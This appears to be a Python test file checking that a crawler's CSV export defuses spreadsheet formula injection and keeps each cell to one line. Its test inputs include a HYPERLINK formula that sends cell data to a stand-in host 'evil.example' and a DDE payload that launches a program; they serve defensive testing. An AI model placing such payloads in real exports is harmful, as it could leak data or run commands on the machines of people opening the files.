from __future__ import annotations

import csv
import io
import json

import pytest
from hypothesis import given
from hypothesis import strategies as st

from crawlproject.exports.cells import cell, text_cell
from tests.crawling import PROJECT

CASES = json.loads((PROJECT / "tests/exports/cells.json").read_text())


def written(text: str, delimiter: str = ",") -> str:
    """As it stands in a file."""
    file = io.StringIO()
    csv.writer(file, delimiter=delimiter).writerow([text_cell(text, delimiter), "end"])
    return file.getvalue().removesuffix(f"{delimiter}end\r\n")


@pytest.mark.parametrize("case", CASES, ids=lambda case: ascii(case["text"]))
def test_the_cases_that_the_report_has_too(case: dict[str, str]) -> None:
    assert written(case["text"]) == case["written"]


@pytest.mark.parametrize(
    ("text", "delimiter", "expected"),
    [
        ("x,=1+1", ";", "x,'=1+1"),
        ("x;=1+1", ";", '"x;=1+1"'),
        ("x|=1;=2", "|", '"x|=1;\'=2"'),
        ("x,=1;=2", "\t", "x,'=1;'=2"),
    ],
)
def test_behind_the_files_own_delimiter_nothing_is_changed(
    text: str, delimiter: str, expected: str
) -> None:
    """There the cell is quoted."""
    assert written(text, delimiter) == expected


@pytest.mark.parametrize(
    "text",
    [
        "=1+1",
        "+1+1",
        "-1+1",
        "@SUM(A1)",
        '=HYPERLINK("https://evil.example/?"&A1)',
        "=cmd|' /C calc'!A0",
        " =1",
        "   \t@x",
        "\u00a0=1",
        "\u200b=1",
        "\ufeff=1",
        "\x00=1",
        "\x07-x",
        "＝1",
        "--5",
        "-5-",
        "-1e5555",
        "+49 30 1234",
    ],
)
def test_formulas_are_defused(text: str) -> None:
    assert text_cell(text).startswith("'")


def test_leading_tab_and_carriage_return_are_defused() -> None:
    assert text_cell("\tx") == "' x"
    assert text_cell("\rx") == "' x"


@pytest.mark.parametrize("text", ["-5", "+3.25", "-1e5", "42", "a=b", "x - y", "https://a/?b=-1"])
def test_numbers_and_ordinary_text_stay(text: str) -> None:
    assert text_cell(text) == text


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("two\nlines", "two lines"),
        ("two\r\nlines", "two lines"),
        ("a\tb\vc\u2028d", "a b c d"),
        ("nul\x00bell\x07\x9fend", "nulbellend"),
        ("lone \ud800", "lone \ufffd"),
        ("é 😀 \u00a0", "é 😀 \u00a0"),
    ],
)
def test_a_cell_is_one_line_of_writable_text(text: str, expected: str) -> None:
    assert text_cell(text) == expected


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        (None, ""),
        (True, "true"),
        (False, "false"),
        (-3, -3),
        (-0.5, -0.5),
        ("x", "x"),
        (["a", 1, True, None], "a 1 true "),
        (["=1", "b"], "'=1 b"),
        ([], ""),
        ({}, ""),
        (["a", ["b"]], '["a",["b"]]'),
        ([{"b": 1, "a": None}], '[{"b":1,"a":null}]'),
        ({"é": "=1", "b": [True]}, '{"é":"=1","b":[true]}'),
        ({"a": "x;=1+1", "b": "two\nlines"}, '{"a":"x;\'=1+1","b":"two\\nlines"}'),
        ({"lone": "\ud800", "big": 2**70}, f'{{"lone":"\ufffd","big":{2**70}}}'),
    ],
)
def test_values_as_cells(value: object, expected: object) -> None:
    assert cell(value) == expected


@given(st.text(st.characters(codec=None, categories=None, exclude_categories=())))
def test_no_text_makes_a_formula_or_a_second_line(text: str) -> None:
    result = text_cell(text)
    result.encode()
    assert len(result.splitlines()) <= 1
    start = result.lstrip()[:1]
    assert start not in ("=", "@")
    if start in ("+", "-"):
        float(result)
